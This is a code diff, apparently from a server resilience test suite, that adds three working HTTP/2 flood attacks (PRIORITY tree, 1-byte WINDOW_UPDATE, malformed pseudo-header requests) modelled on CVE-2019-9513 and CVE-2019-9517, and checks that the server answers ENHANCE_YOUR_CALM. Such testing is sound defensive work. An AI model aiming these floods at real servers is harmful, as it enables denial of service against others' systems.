@@ -688,6 +688,63 @@ async def settings_flood(port: int, scale: float = 1.0, *, service: Service = WO
         return attacker.outcome
 
 
+async def priority_flood(port: int, scale: float = 1.0, *, service: Service = WORKER) -> Outcome:
+    """PRIORITY frames, each for a new idle stream depending on the one before (the
+    priority tree of CVE-2019-9513): work for the server, nothing for the peer."""
+    count = int(100_000 * scale)
+    chunks = await batches(
+        lambda i: frame(PRIORITY, 0, 2 * i + 1, struct.pack(">LB", max(0, 2 * i - 1), 15)),
+        0,
+        count,
+        1000,
+    )
+    async with Attacker.connect(port, "PRIORITY flood") as attacker:
+        await attacker.send(opening())
+        await attacker.send_all(chunks)
+        await attacker.wait_closed(1.0)
+        return attacker.outcome
+
+
+async def window_update_flood(
+    port: int, scale: float = 1.0, *, service: Service = WORKER
+) -> Outcome:
+    """1-byte WINDOW_UPDATEs on an open stream and the connection, with no DATA that
+    could have called for them (CVE-2019-9517 style: each wakes the server's senders)."""
+    count = int(100_000 * scale)
+    updates = (
+        frame(WINDOW_UPDATE, 0, 1, struct.pack(">L", 1))
+        + frame(WINDOW_UPDATE, 0, 0, struct.pack(">L", 1))
+    ) * 500
+    async with Attacker.connect(port, "WINDOW_UPDATE flood") as attacker:
+        # A call whose request never comes: its stream stays open.
+        await attacker.send(opening() + frame(HEADERS, END_HEADERS, 1, request_block(service.path)))
+        await attacker.send_all([updates] * (count // 1000))
+        await attacker.wait_closed(1.0)
+        return attacker.outcome
+
+
+async def malformed_request_flood(
+    port: int, scale: float = 1.0, *, service: Service = WORKER
+) -> Outcome:
+    """Requests whose pseudo-header comes after a regular field (RFC 9113 §8.3), each
+    on a new stream: each costs the server a decode and a reset, and does nothing."""
+    count = int(20_000 * scale)
+    block = (
+        hpack_literal("content-type", "application/grpc")
+        + STATIC_POST_HTTP
+        + hpack_literal(":path", service.path)
+    )
+    chunks = await batches(
+        lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block), 0, count, 1000
+    )
+    async with Attacker.connect(port, "malformed request flood") as attacker:
+        await attacker.send(opening())
+        await attacker.send_all(chunks)
+        await attacker.wait_closed(1.0)
+        attacker.outcome.notes["streams_reset"] = attacker.outcome.resets.get("PROTOCOL_ERROR", 0)
+        return attacker.outcome
+
+
 IDLE_KINDS: dict[str, bytes] = {
     "no preface": b"",
     "half a preface": PREFACE[:12],
@@ -740,6 +797,9 @@ ATTACKS = [
     Attack("empty_data_flood", empty_data_flood, ENHANCE_YOUR_CALM),
     Attack("empty_headers_flood", empty_headers_flood, None),
     Attack("settings_flood", settings_flood, ENHANCE_YOUR_CALM),
+    Attack("priority_flood", priority_flood, ENHANCE_YOUR_CALM),
+    Attack("window_update_flood", window_update_flood, ENHANCE_YOUR_CALM),
+    Attack("malformed_request_flood", malformed_request_flood, ENHANCE_YOUR_CALM),
 ]
 
 __all__ = ["ATTACKS", "Attack", "Attacker", "Outcome", "Prober", "probing"]
